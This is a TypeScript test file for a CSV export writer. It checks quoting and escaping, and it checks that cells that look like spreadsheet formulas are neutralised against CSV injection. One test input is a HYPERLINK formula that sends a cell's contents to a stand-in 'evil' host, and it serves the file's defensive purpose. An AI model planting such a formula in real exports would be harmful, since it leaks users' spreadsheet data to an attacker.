import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLines } from './csv.js';

// The export's CSV used to come from csv-stringify (record_delimiter 'windows'), which left a bare CR or
// LF inside a field unquoted (RFC 4180 quotes any line break); the writer quotes them, as csv-stringify
// does with quote_record_delimiter, and is otherwise byte for byte what it wrote.
// A text field a spreadsheet would take for a formula gets a leading apostrophe (CSV injection).
const formulaSafe = (field: unknown) =>
  typeof field === 'string' && /^[=+\-@\t\r]/.test(field) && !/^[+-]?\d+(?:\.\d+)?$/.test(field)
    ? `'${field}`
    : field;
const reference = (rows: unknown[][]) =>
  stringify(
    rows.map((row) => row.map(formulaSafe)),
    { record_delimiter: 'windows', quote_record_delimiter: true },
  );

describe('export CSV lines', () => {
  it('quote and escape what needs it, and nothing else', () => {
    const rows = [
      ['plain', 42, -7, 0, null, ''],
      ['a,b', 'say "hi"', 'two\nlines', 'cr\r', 'crlf\r\n', '+81312345678'],
      ['中文', '"', ',', '\t', ' ', undefined],
    ];
    expect(csvLines(rows)).toBe(reference(rows));
    expect(csvLines([['a,b', 'say "hi"']])).toBe('"a,b","say ""hi"""\r\n');
  });

  it('write a field that would start a spreadsheet formula as text, and numbers as numbers', () => {
    const formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(A1)', '+1+2', '-2+3', '\tx', 'a=b'];
    expect(csvLines([formulas])).toBe(
      `"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(A1),'+1+2,'-2+3,'\tx,a=b\r\n`,
    );
    expect(csvLines([[-500, '-500', '+8613800000000', '-1.25', 42]])).toBe(
      '-500,-500,+8613800000000,-1.25,42\r\n',
    );
  });

  it('write what csv-stringify wrote for any strings, integers and nulls (formulas made text)', () => {
    const field = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'Z', '9', ',', '"', '\r', '\n', ' ', '中', "'", '=', '-') }),
      fc.string(),
      fc.integer(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 7 }), { maxLength: 5 }), (rows) => {
        expect(csvLines(rows)).toBe(reference(rows));
      }),
      { numRuns: 500 },
    );
  });
});
